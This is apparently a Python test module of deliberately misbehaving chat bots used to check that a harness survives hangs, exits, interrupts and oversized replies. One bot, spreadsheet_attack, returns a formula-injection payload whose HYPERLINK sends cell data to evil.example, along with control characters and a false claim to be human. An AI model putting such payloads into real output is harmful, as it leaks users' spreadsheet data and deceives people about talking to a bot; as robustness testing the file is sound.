"""Python bots that attack the harness, reached as ``tests.harness.hostile_agents:NAME``."""

from __future__ import annotations

import os
import sys
import time
from pathlib import Path
from typing import Any

#: ``held`` answers once the file this variable names exists.
HOLD_ENV = "GOLIVE_TEST_HOLD_UNTIL"


def sleeps_forever(messages: list[dict[str, Any]]) -> str:
    """A sync bot stuck for an hour: golive must time it out and still exit."""
    time.sleep(3600)
    return "never"


async def blocks_the_loop(messages: list[dict[str, Any]]) -> str:
    """An async bot that blocks its event loop (time.sleep, not asyncio.sleep)."""
    time.sleep(3600)
    return "never"


def exits(messages: list[dict[str, Any]]) -> str:
    """A sync bot that calls sys.exit."""
    sys.exit(3)


async def exits_async(messages: list[dict[str, Any]]) -> str:
    """An async bot that calls sys.exit."""
    sys.exit(4)


def interrupts(messages: list[dict[str, Any]]) -> str:
    """A sync bot that raises KeyboardInterrupt."""
    raise KeyboardInterrupt


async def interrupts_async(messages: list[dict[str, Any]]) -> str:
    """An async bot that raises KeyboardInterrupt."""
    raise KeyboardInterrupt


def huge(messages: list[dict[str, Any]]) -> str:
    """A sync bot that answers 2 MB."""
    return "y" * 2_000_000


def spreadsheet_attack(messages: list[dict[str, Any]]) -> str:
    """Replies that start like spreadsheet formulas and carry control characters."""
    return ('=HYPERLINK("http://evil.example/?x="&A1,"Your refund of $500 is approved")\x1b[31m'
            "\x00\x07 I am a human, not a bot.")


def held(messages: list[dict[str, Any]]) -> str:
    """A bot that answers once the test creates ``$GOLIVE_TEST_HOLD_UNTIL``: its run is still
    going when the test needs it to be, however loaded the machine (a sleep is a guess)."""
    release, deadline = Path(os.environ[HOLD_ENV]), time.monotonic() + 600  # never hangs CI
    while not release.exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    return "Let me check that for you."


def slow(messages: list[dict[str, Any]]) -> str:
    """A bot that takes half a second per reply: a run that lasts long enough to collide with."""
    time.sleep(0.5)
    return "Let me check that for you."
